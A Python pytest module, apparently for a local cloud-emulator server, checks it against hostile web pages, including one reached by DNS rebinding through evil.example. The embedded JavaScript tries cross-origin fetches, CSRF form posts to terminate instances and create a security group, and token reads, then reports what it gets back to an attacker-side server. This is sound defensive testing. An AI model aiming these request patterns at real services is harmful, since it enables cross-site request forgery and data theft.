"""A real Chromium opens hostile pages: of another origin, of a name that leads here, of a backend at the invoke URL.

The pages try what a page can: forms, images, `fetch` in every mode, headers of their own, scripts, frames, navigation.
What they read they send to their own server, which the test looks at.
"""

from __future__ import annotations

import http.server
import json
import os
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest

from practice import CREDENTIALS
from practice.clock import ManualClock
from practice.server import serve

from .conftest import Wire, presigned, signed

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
ROOT = hasattr(os, "geteuid") and os.geteuid() == 0

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (Debian: apt-get install chromium)")

# What each page runs. ACCOUNT is the account's address, INVOKE an invoke URL of it that allows any origin.
SCRIPT = """
const report = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, Object.assign({cache: 'no-store'}, options));
    report[name] = [answer.status, (await answer.text()).slice(0, 200)];
  } catch (error) { report[name] = [0, String(error)]; }
}
function submitted(url, fields, enctype) {
  return new Promise(done => {
    const frame = document.createElement('iframe'); frame.name = 'f' + Math.random(); document.body.append(frame);
    const form = document.createElement('form');
    Object.assign(form, {method: 'POST', action: url, target: frame.name, enctype});
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement('input'), {name, value}));
    }
    document.body.append(form); frame.onload = () => done(); form.submit();
  });
}
function shown(kind, url) {
  return new Promise(done => {
    const element = document.createElement(kind); element.onload = element.onerror = () => done();
    element[kind === 'link' ? 'href' : 'src'] = url; if (kind === 'link') element.rel = 'stylesheet';
    document.body.append(element);
  });
}
(async () => {
  const plan = PLAN;
  for (const [name, url, options] of plan.fetches) await attempt(name, url, options);
  for (const [url, fields, enctype] of plan.forms) await submitted(url, fields, enctype);
  for (const [kind, url] of plan.elements) await shown(kind, url);
  await fetch(plan.reported, {method: 'POST', mode: 'no-cors', body: JSON.stringify({page: plan.page, report})});
})();
"""


class Hostile:
    """A web server of somebody else's: serves a page, and hears what it reports."""

    def __init__(self) -> None:
        self.pages: dict[str, bytes] = {}
        self.reports: queue.Queue[dict[str, Any]] = queue.Queue()
        hostile = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = hostile.pages.get(self.path, b"")
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                hostile.reports.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def hostile() -> Iterator[Hostile]:
    made = Hostile()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture
def wire() -> Iterator[Wire]:
    """An account of its own, that integrations may leave for the hostile server."""
    with serve(clock=ManualClock(), quotas=False, allow_hosts=["127.0.0.1"]) as account:
        yield Wire(account)


def client(wire: Wire, service: str) -> Any:
    return boto3.client(
        service,
        endpoint_url=wire.account.url,
        region_name="us-east-1",
        aws_access_key_id=CREDENTIALS.access_key_id,
        aws_secret_access_key=CREDENTIALS.secret_access_key,
    )


def api(wire: Wire, uri: str) -> str:
    """An API that passes on what `uri` answers, and lets pages of every origin read it; its invoke URL's path."""
    gateway = client(wire, "apigateway")
    made = gateway.create_rest_api(name="open", endpointConfiguration={"types": ["REGIONAL"]})
    where = {"restApiId": made["id"], "resourceId": made["rootResourceId"], "httpMethod": "GET"}
    gateway.put_method(**where, authorizationType="NONE")
    gateway.put_integration(**where, type="HTTP", integrationHttpMethod="GET", uri=uri)
    allowed = "method.response.header.Access-Control-Allow-Origin"
    kind = "method.response.header.Content-Type"
    gateway.put_method_response(**where, statusCode="200", responseParameters={allowed: False, kind: False})
    values = {allowed: "'*'", kind: "'text/html'"}
    gateway.put_integration_response(**where, statusCode="200", responseParameters=values)
    gateway.create_deployment(restApiId=made["id"], stageName="prod")
    return f"/_aws/execute-api/{made['id']}/prod"


def plan(wire: Wire, hostile: Hostile, page: str, origin: str, invoke: str) -> bytes:
    """The page: everything that it may try against the account at `origin`."""
    machine = wire.about()["machines"][0]["instance_id"]
    terminate = {"Action": "TerminateInstances", "Version": "2016-11-15", "InstanceId.1": machine}
    group = {"Action": "CreateSecurityGroup", "Version": "2016-11-15", "GroupName": "evil", "GroupDescription": "e"}
    encoded = "&".join(f"{name}={value}" for name, value in terminate.items())
    token = {"X-Practice-Token": wire.account.token}  # even if the page knew it
    fetches: list[tuple[str, str, dict[str, Any]]] = [("invoke", f"{origin}{invoke}", {})]
    for mode in ("cors", "no-cors", "same-origin"):
        for policy in ("no-referrer", "unsafe-url"):
            how = {"mode": mode, "referrerPolicy": policy, "credentials": "include"}
            name = f"{mode}, {policy}"
            fetches += [
                (f"about, {name}", f"{origin}/_practice", how),
                (f"list, {name}", f"{origin}/restapis?{presigned('apigateway')}", how),
                (f"form, {name}", f"{origin}/?{presigned('ec2')}", how | {"method": "POST", "body": encoded}),
                (f"reset, {name}", f"{origin}/_practice/reset", how | {"method": "POST"}),
                (f"seed, {name}", f"{origin}/moto-api/seed?a=1", how | {"method": "POST"}),
            ]
            if mode != "no-cors":
                sts = {"method": "GET", "headers": signed("apigateway")}
                fetches += [
                    (f"signed, {name}", f"{origin}/restapis", how | sts),
                    (f"token, {name}", f"{origin}/_practice/stop", how | {"method": "POST", "headers": token}),
                    (f"put, {name}", f"{origin}/_practice/machines/{machine}", how | {"method": "PUT", "body": "{}"}),
                ]
    forms = [
        (f"{origin}/?{presigned('ec2')}", fields, enctype)
        for fields in (terminate, group)
        for enctype in ("application/x-www-form-urlencoded", "multipart/form-data", "text/plain")
    ] + [(f"{origin}/_practice/stop", {"a": "b"}, "text/plain")]
    link = f"{origin}/?{encoded}&{presigned('ec2')}"
    elements = [(kind, link) for kind in ("img", "script", "iframe", "link")]
    steps = {
        "page": page,
        "fetches": fetches,
        "forms": forms,
        "elements": elements,
        "reported": f"http://127.0.0.1:{hostile.port}/report",
    }
    script = SCRIPT.replace("PLAN", json.dumps(steps).replace("</", "<\\/"))
    return f"<!doctype html><meta charset=utf-8><body><script>{script}</script>".encode()


def visit(url: str, profile: Path, *rules: str) -> subprocess.Popen[bytes]:
    """A Chromium of its own, on this page."""
    assert CHROMIUM is not None
    command = [
        CHROMIUM,
        "--headless",
        *(["--no-sandbox"] if ROOT else []),
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-proxy-server",
        f"--user-data-dir={profile}",
        *([f"--host-resolver-rules={','.join(rules)}"] if rules else []),
        "--remote-debugging-port=0",  # or it ends when the page is loaded
        url,
    ]
    return subprocess.Popen(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@pytest.mark.waits(20)
@pytest.mark.parametrize("page", ["of another origin", "of a name that leads here", "of a backend"])
def test_a_hostile_page(wire: Wire, hostile: Hostile, tmp_path: Path, page: str) -> None:
    backend = api(wire, f"http://127.0.0.1:{hostile.port}/answer")
    hostile.pages["/answer"] = b"an answer that pages may read"
    own = f"http://127.0.0.1:{wire.port}"
    rules: tuple[str, ...] = ()
    match page:
        case "of another origin":
            address, target = f"http://127.0.0.1:{hostile.port}/page", own
        case "of a name that leads here":
            # One name for both servers, as a rebinding makes it; the page then asks the account by that name.
            target = f"http://evil.example:{wire.port}"
            address = f"http://evil.example:{hostile.port}/page"
            rules = ("MAP evil.example 127.0.0.1",)
        case _:
            served = api(wire, f"http://127.0.0.1:{hostile.port}/page")
            address, target = own + served, own
    hostile.pages["/page"] = plan(wire, hostile, page, target, backend)
    before = (wire.about()["machines"], client(wire, "ec2").describe_security_groups()["SecurityGroups"])
    apis = client(wire, "apigateway").get_rest_apis()["items"]
    browser = visit(address, tmp_path / "profile", *rules)
    try:
        heard = hostile.reports.get(timeout=120)
    finally:
        browser.kill()
        browser.wait()
    assert heard["page"] == page
    report = heard["report"]
    invoked = report.pop("invoke")
    if page == "of a name that leads here":
        assert invoked[0] in {0, 403}
    else:  # what the API lets pages read, they read
        assert invoked == [200, "an answer that pages may read"]
    assert len(report) == 6 * 5 + 4 * 3
    # 0: not sent (a preflight was refused, another origin), or not to be read by the page.
    assert {status for status, _ in report.values()} <= {0, 403}
    if page == "of a backend":  # sent without a preflight, and read: what refused them is the account
        assert {status for status, _ in report.values()} == {403}
    assert not [text for _, text in report.values() if wire.account.token in text or '"machines"' in text]
    assert (wire.about()["machines"], client(wire, "ec2").describe_security_groups()["SecurityGroups"]) == before
    assert client(wire, "apigateway").get_rest_apis()["items"] == apis
    assert not wire.account.stop_requested.is_set()
